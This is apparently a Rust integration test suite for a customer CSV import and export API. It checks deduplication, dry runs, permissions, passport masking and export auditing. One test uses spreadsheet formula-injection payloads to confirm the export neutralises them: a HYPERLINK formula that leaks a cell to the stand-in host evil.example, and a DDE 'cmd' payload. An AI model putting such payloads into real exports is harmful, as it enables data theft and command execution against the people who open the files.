//! Customer CSV import and export: create, update and skip with row-numbered errors, dedupe
//! by email then phone then passport, dry run, idempotent re-import, batch ids, body limit,
//! permissions, masking, formula injection, audit of exports, and a few thousand rows.

mod support;

use egec_domain::Role;
use egec_domain::event::DomainEvent;
use egec_domain::export::ExportEvent;
use reqwest::StatusCode;
use serde_json::{Value, json};
use support::{TestApp, json_of};
use uuid::Uuid;

const HEADER: &str = "name,email,phone,passport_number,country,source,status,notes\n";

async fn import(app: &TestApp, token: &str, csv: &str, dry_run: bool) -> reqwest::Response {
    app.client
        .post(format!(
            "{}/api/customers/import?dry_run={dry_run}",
            app.base
        ))
        .bearer_auth(token)
        .header("content-type", "text/csv")
        .body(csv.to_owned())
        .send()
        .await
        .expect("request sent")
}

async fn import_ok(app: &TestApp, token: &str, csv: &str, dry_run: bool) -> Value {
    let r = import(app, token, csv, dry_run).await;
    assert_eq!(r.status(), StatusCode::OK);
    json_of(r).await
}

fn counts(report: &Value) -> (u64, u64, u64, u64) {
    let n = |k: &str| {
        report[k]
            .as_u64()
            .unwrap_or_else(|| panic!("{k} in {report}"))
    };
    (n("created"), n("updated"), n("skipped"), n("failed"))
}

async fn head(app: &TestApp) -> i64 {
    app.running.state.log.head().await.unwrap().position
}

/// The decoded events appended after `after`.
async fn events_after(app: &TestApp, after: i64) -> Vec<egec_domain::event::Envelope> {
    let s = &app.running.state;
    let mut out = Vec::new();
    for rec in s.log.read_all(after, 100_000).await.unwrap() {
        out.push(s.bus.codec().decode(&rec).await.unwrap());
    }
    out
}

async fn customers(app: &TestApp, token: &str, q: &str) -> Vec<Value> {
    let r = app
        .get(&format!("/api/customers?per_page=100&q={q}"), Some(token))
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    json_of(r).await["items"].as_array().unwrap().clone()
}

async fn export(app: &TestApp, token: &str, query: &str) -> reqwest::Response {
    app.get(&format!("/api/customers/export.csv{query}"), Some(token))
        .await
}

/// The export's records (header first), parsed as a spreadsheet would.
async fn export_rows(app: &TestApp, token: &str, query: &str) -> Vec<Vec<String>> {
    let r = export(app, token, query).await;
    assert_eq!(r.status(), StatusCode::OK);
    assert!(
        r.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let text = r.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn column(rows: &[Vec<String>], name: &str) -> usize {
    rows[0].iter().position(|c| c == name).unwrap()
}

both_backends!(
    an_import_creates_updates_and_skips_and_names_bad_rows_by_their_row_number,
    |app: TestApp| async move {
        let (_, admin) = app.as_role(Role::Admin).await;
        let r = app
            .post(
                "/api/customers",
                Some(&admin),
                json!({ "name": "Jane Doe", "email": "jane@example.com" }),
            )
            .await;
        assert_eq!(r.status(), StatusCode::CREATED);
        let csv = format!(
            "{HEADER}\
             Ada Lovelace,ada@example.com,,,GB,fair,,\n\
             Jane Doe,JANE@example.com,,,,,contacted,\n\
             Ada Lovelace,ada@example.com,,,,,,\n\
             Bad Row,not-an-email,12,,,,,\n\
             ,nameless@example.com,,,,,,\n\
             Grace Hopper,,020 7946 0958,,,,sleeping,\n"
        );
        let report = import_ok(&app, &admin, &csv, false).await;
        assert_eq!(counts(&report), (1, 1, 1, 3), "{report}");
        let errors = report["errors"].as_array().unwrap();
        let rows: Vec<u64> = errors.iter().map(|e| e["row"].as_u64().unwrap()).collect();
        assert_eq!(rows, vec![5, 6, 7]);
        let msg = |i: usize| errors[i]["message"].as_str().unwrap().to_owned();
        assert!(
            msg(0).contains("email:") && msg(0).contains("phone:"),
            "{}",
            msg(0)
        );
        assert!(!msg(0).contains("not-an-email"), "values are never echoed");
        assert!(msg(1).contains("name:"), "{}", msg(1));
        assert!(msg(2).contains("status:"), "{}", msg(2));
        let jane = customers(&app, &admin, "jane").await;
        assert_eq!(jane.len(), 1);
        assert_eq!(jane[0]["status"], "contacted");
        let ada = customers(&app, &admin, "ada").await;
        assert_eq!(ada.len(), 1);
        assert_eq!(ada[0]["country"], "GB");
        assert_eq!(ada[0]["source"], "fair");
    }
);

both_backends!(
    an_import_matches_by_email_then_phone_then_passport_instead_of_duplicating,
    |app: TestApp| async move {
        let (_, admin) = app.as_role(Role::Admin).await;
        let mut ids = Vec::new();
        for body in [
            json!({ "name": "By Email", "email": "first@example.com" }),
            json!({ "name": "By Phone", "phone": "020 7946 0958" }),
            json!({ "name": "By Passport", "passport_number": "AB1234589" }),
        ] {
            let r = app.post("/api/customers", Some(&admin), body).await;
            assert_eq!(r.status(), StatusCode::CREATED);
            ids.push(json_of(r).await["id"].as_str().unwrap().to_owned());
        }
        // Rows 2 and 3 match by phone and passport alone; row 4 has the second's phone and
        // the third's passport: phone wins; row 5 has the first's email and the second's
        // phone: email wins.
        let csv = format!(
            "{HEADER}\
             Phone Match,,020 7946 0958,,,,,\n\
             Passport Match,,,ab1234589,,,,\n\
             Phone Beats Passport,,+442079460958,AB1234589,,,,\n\
             Email Wins,first@example.com,+442079460958,,,,,\n"
        );
        let report = import_ok(&app, &admin, &csv, false).await;
        assert_eq!(counts(&report), (0, 4, 0, 0), "{report}");
        let all = customers(&app, &admin, "").await;
        assert_eq!(all.len(), 3, "no duplicate was created");
        let name_of = |id: &str| {
            all.iter().find(|c| c["id"] == id).unwrap()["name"]
                .as_str()
                .unwrap()
                .to_owned()
        };
        assert_eq!(name_of(&ids[0]), "Email Wins");
        assert_eq!(name_of(&ids[1]), "Phone Beats Passport");
        assert_eq!(name_of(&ids[2]), "Passport Match");
        let first = all.iter().find(|c| c["id"] == ids[0].as_str()).unwrap();
        assert_eq!(first["phone"], "+442079460958");
    }
);

both_backends!(
    a_dry_run_reports_the_counts_of_the_real_run_and_appends_nothing,
    |app: TestApp| async move {
        let (_, admin) = app.as_role(Role::Admin).await;
        let csv = format!(
            "{HEADER}\
             Ada Lovelace,ada@example.com,,,,,,\n\
             Ada King,ada@example.com,,,,,contacted,\n\
             Broken,broken,,,,,,\n"
        );
        let before = head(&app).await;
        let dry = import_ok(&app, &admin, &csv, true).await;
        assert_eq!(dry["dry_run"], true);
        assert_eq!(head(&app).await, before, "a dry run appends nothing");
        assert!(customers(&app, &admin, "").await.is_empty());
        let real = import_ok(&app, &admin, &csv, false).await;
        assert_eq!(counts(&dry), (1, 1, 0, 1), "{dry}");
        assert_eq!(counts(&real), counts(&dry), "{real}");
        assert_eq!(dry["errors"], real["errors"]);
    }
);

both_backends!(
    re_importing_the_same_file_skips_every_row_and_leaves_the_log_unchanged,
    |app: TestApp| async move {
        let (_, admin) = app.as_role(Role::Admin).await;
        let csv = format!(
            "{HEADER}\
             Ada Lovelace,ada@example.com,,,GB,,contacted,likes maths\n\
             Grace Hopper,,020 7946 0958,,,,,\n\
             Alan Turing,,,ab1234589,,,,\n"
        );
        let first = import_ok(&app, &admin, &csv, false).await;
        assert_eq!(counts(&first), (3, 0, 0, 0), "{first}");
        let before = head(&app).await;
        let again = import_ok(&app, &admin, &csv, false).await;
        assert_eq!(counts(&again), (0, 0, 3, 0), "{again}");
        assert_eq!(head(&app).await, before, "the log did not move");
        assert_ne!(first["batch_id"], again["batch_id"]);
    }
);

both_backends!(
    every_event_an_import_causes_carries_the_batch_id_it_answers,
    |app: TestApp| async move {
        let (_, admin) = app.as_role(Role::Admin).await;
        let r = app
            .post(
                "/api/customers",
                Some(&admin),
                json!({ "name": "Jane Doe", "email": "jane@example.com" }),
            )
            .await;
        assert_eq!(r.status(), StatusCode::CREATED);
        let before = head(&app).await;
        let csv = format!(
            "{HEADER}\
             Jane Doe,jane@example.com,,,,,qualified,\n\
             Ada Lovelace,ada@example.com,,,,,,\n\
             Grace Hopper,grace@example.com,,,,,,\n"
        );
        let report = import_ok(&app, &admin, &csv, false).await;
        let batch: Uuid = report["batch_id"].as_str().unwrap().parse().unwrap();
        let caused: Vec<_> = events_after(&app, before)
            .await
            .into_iter()
            .filter(|e| matches!(e.event, DomainEvent::Customer(_)))
            .collect();
        assert_eq!(caused.len(), 3);
        for e in &caused {
            assert_eq!(e.metadata.batch_id, Some(batch), "{}", e.event.action());
        }
        // A customer created over the JSON API belongs to no batch.
        let earlier = events_after(&app, 0).await;
        let created = earlier
            .iter()
            .find(|e| e.position <= before && matches!(e.event, DomainEvent::Customer(_)))
            .unwrap();
        assert_eq!(created.metadata.batch_id, None);
    }
);

both_backends!(
    only_superadmin_and_admin_may_import,
    |app: TestApp| async move {
        let csv = format!("{HEADER}Ada Lovelace,ada@example.com,,,,,,\n");
        for role in Role::ALL {
            let (_, token) = app.as_role(role).await;
            let r = import(&app, &token, &csv, true).await;
            let expected = if matches!(role, Role::Superadmin | Role::Admin) {
                StatusCode::OK
            } else {
                StatusCode::FORBIDDEN
            };
            assert_eq!(r.status(), expected, "{}", role.as_str());
        }
        let anonymous = app
            .client
            .post(format!("{}/api/customers/import", app.base))
            .body(csv)
            .send()
            .await
            .unwrap();
        assert_eq!(anonymous.status(), StatusCode::UNAUTHORIZED);
    }
);

both_backends!(
    an_unknown_or_missing_header_column_is_refused_with_422,
    |app: TestApp| async move {
        let (_, admin) = app.as_role(Role::Admin).await;
        for csv in [
            "name,email,shoe_size\nAda,ada@example.com,42\n",
            "email,phone\nada@example.com,\n",
            "",
        ] {
            let r = import(&app, &admin, csv, false).await;
            assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{csv:?}");
            let body = json_of(r).await;
            assert!(body["error"]["fields"]["header"].is_string(), "{body}");
        }
        // Columns in any order, any case.
        let report = import_ok(
            &app,
            &admin,
            "Email,NAME\nada@example.com,Ada Lovelace\n",
            false,
        )
        .await;
        assert_eq!(counts(&report), (1, 0, 0, 0), "{report}");
    }
);

both_backends!(
    an_import_body_above_the_configured_limit_is_refused_with_413,
    env = [("EGEC_IMPORT_MAX_BYTES", "4096")],
    |app: TestApp| async move {
        let (_, admin) = app.as_role(Role::Admin).await;
        let mut csv = HEADER.to_owned();
        for i in 0..200 {
            csv.push_str(&format!("Person {i},p{i}@example.com,,,,,,\n"));
        }
        assert!(csv.len() > 4096);
        let before = head(&app).await;
        let r = import(&app, &admin, &csv, false).await;
        assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
        // The rows read before the limit was reached may have been applied; what matters is
        // that the body is not read past the limit. A small file still goes through.
        let _ = before;
        let small = format!("{HEADER}Ada Lovelace,ada@example.com,,,,,,\n");
        assert_eq!(
            import(&app, &admin, &small, false).await.status(),
            StatusCode::OK
        );
    }
);

both_backends!(
    an_export_masks_passports_for_a_superagent_but_not_for_an_admin,
    |app: TestApp| async move {
        let (_, admin) = app.as_role(Role::Admin).await;
        let (_, superagent) = app.as_role(Role::Superagent).await;
        let r = app
            .post(
                "/api/customers",
                Some(&admin),
                json!({ "name": "Jane Doe", "passport_number": "AB1234589", "phone": "020 7946 0958" }),
            )
            .await;
        assert_eq!(r.status(), StatusCode::CREATED);
        let rows = export_rows(&app, &admin, "").await;
        let p = column(&rows, "passport_number");
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[1][p], "AB1234589");
        // A phone number stays a usable E.164 number (a plain number is no formula).
        assert_eq!(rows[1][column(&rows, "phone")], "+442079460958");
        let rows = export_rows(&app, &superagent, "").await;
        assert_eq!(rows.len(), 2);
        assert_ne!(rows[1][p], "AB1234589");
        assert!(rows[1][p].contains('*'), "{}", rows[1][p]);
        assert!(!rows[1][p].contains("1234"), "{}", rows[1][p]);
    }
);

both_backends!(
    agents_data_entry_and_auditors_may_not_export,
    |app: TestApp| async move {
        for role in Role::ALL {
            let (_, token) = app.as_role(role).await;
            let expected = if matches!(role, Role::Superadmin | Role::Admin | Role::Superagent) {
                StatusCode::OK
            } else {
                StatusCode::FORBIDDEN
            };
            let r = export(&app, &token, "").await;
            assert_eq!(r.status(), expected, "{}", role.as_str());
        }
    }
);

both_backends!(
    an_export_with_an_unknown_status_is_refused_with_422,
    |app: TestApp| async move {
        let (_, admin) = app.as_role(Role::Admin).await;
        let r = export(&app, &admin, "?status=sleeping").await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
        assert!(json_of(r).await["error"]["fields"]["status"].is_string());
    }
);

both_backends!(
    formula_injection_is_neutralised_in_the_export,
    |app: TestApp| async move {
        let (_, admin) = app.as_role(Role::Admin).await;
        let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
        let r = app
            .post(
                "/api/customers",
                Some(&admin),
                json!({ "name": "@SUM(A1:A9)", "notes": formula, "source": "+cmd|' /C calc'!A0" }),
            )
            .await;
        assert_eq!(r.status(), StatusCode::CREATED);
        let rows = export_rows(&app, &admin, "").await;
        let row = &rows[1];
        assert_eq!(row[column(&rows, "notes")], format!("'{formula}"));
        assert_eq!(row[column(&rows, "name")], "'@SUM(A1:A9)");
        assert_eq!(row[column(&rows, "source")], "'+cmd|' /C calc'!A0");
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a cell starts like a formula: {cell}"
            );
        }
    }
);

both_backends!(
    an_export_is_audited_with_its_filter_and_row_count_but_not_its_search_text,
    |app: TestApp| async move {
        let (superagent_id, superagent) = app.as_role(Role::Superagent).await;
        let (_, admin) = app.as_role(Role::Admin).await;
        let mut csv = HEADER.to_owned();
        for i in 0..7 {
            let status = if i % 2 == 0 { "new" } else { "contacted" };
            csv.push_str(&format!(
                "Quixote {i},quixote{i}@example.com,,,,,{status},\n"
            ));
        }
        csv.push_str("Sancho Panza,sancho@example.com,,,,,new,\n");
        import_ok(&app, &admin, &csv, false).await;
        let before = head(&app).await;
        let rows = export_rows(&app, &superagent, "?q=quixote&status=new").await;
        assert_eq!(rows.len(), 5, "the header and the four new Quixotes");
        let names: Vec<&str> = rows[1..].iter().map(|r| r[1].as_str()).collect();
        assert!(names.iter().all(|n| n.starts_with("Quixote")), "{names:?}");
        let exported: Vec<_> = events_after(&app, before)
            .await
            .into_iter()
            .filter_map(|e| match e.event {
                DomainEvent::Export(ExportEvent::CustomersExported(x)) => Some((e.metadata, x)),
                _ => None,
            })
            .collect();
        assert_eq!(exported.len(), 1);
        let (meta, event) = &exported[0];
        assert_eq!(meta.actor_id.map(|a| a.as_uuid()), Some(superagent_id));
        assert_eq!(event.rows, 4);
        assert!(event.complete);
        assert!(event.searched);
        assert_eq!(event.status.as_deref(), Some("new"));
        assert_eq!(event.role, Role::Superagent);
        let stored = app.running.state.log.read_all(before, 100).await.unwrap();
        for rec in stored {
            assert!(
                !rec.payload.to_string().to_lowercase().contains("quixote"),
                "no search text"
            );
        }
        // The audit log shows it as CUSTOMERS_EXPORTED.
        let mut seen = false;
        for _ in 0..50 {
            let r = app
                .get("/api/audit?action=CUSTOMERS_EXPORTED", Some(&admin))
                .await;
            if r.status() == StatusCode::OK {
                let body = json_of(r).await;
                if body["items"].as_array().is_some_and(|i| !i.is_empty()) {
                    seen = true;
                    break;
                }
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        assert!(seen, "the export reached the audit log");
    }
);

both_backends!(
    five_thousand_rows_import_and_export_back_in_full_across_pages,
    |app: TestApp| async move {
        let (_, admin) = app.as_role(Role::Admin).await;
        let mut csv = HEADER.to_owned();
        for i in 0..5_000 {
            csv.push_str(&format!(
                "Person {i},person{i}@example.com,,P{i:07},DE,web,,note {i}\n"
            ));
        }
        let report = import_ok(&app, &admin, &csv, false).await;
        assert_eq!(counts(&report), (5_000, 0, 0, 0), "{}", report["errors"]);
        let rows = export_rows(&app, &admin, "").await;
        assert_eq!(rows.len(), 5_001);
        let ids: std::collections::HashSet<&String> = rows[1..].iter().map(|r| &r[0]).collect();
        assert_eq!(ids.len(), 5_000, "no customer twice across pages");
        let again = import_ok(&app, &admin, &csv, true).await;
        assert_eq!(counts(&again), (0, 0, 5_000, 0));
    }
);

both_backends!(
    an_export_the_client_abandons_is_still_audited_as_incomplete,
    |app: TestApp| async move {
        let (_, admin) = app.as_role(Role::Admin).await;
        // About 14 MB of CSV: more than the socket buffers between server and client
        // hold, so the server is still writing when the client goes away.
        let notes = "n".repeat(9_000);
        let mut csv = HEADER.to_owned();
        for i in 0..1_500 {
            csv.push_str(&format!("Person {i},p{i}@example.com,,,,,,{notes}\n"));
        }
        let report = import_ok(&app, &admin, &csv, false).await;
        assert_eq!(counts(&report).0, 1_500);
        let before = head(&app).await;
        let mut r = export(&app, &admin, "").await;
        assert_eq!(r.status(), StatusCode::OK);
        assert!(r.chunk().await.unwrap().is_some());
        drop(r);
        let mut recorded = None;
        for _ in 0..100 {
            recorded = events_after(&app, before)
                .await
                .into_iter()
                .find_map(|e| match e.event {
                    DomainEvent::Export(ExportEvent::CustomersExported(x)) => Some(x),
                    _ => None,
                });
            if recorded.is_some() {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        let event = recorded.expect("the abandoned export was recorded");
        assert!(!event.complete);
        assert!(event.rows < 1_500, "{} rows", event.rows);
    }
);
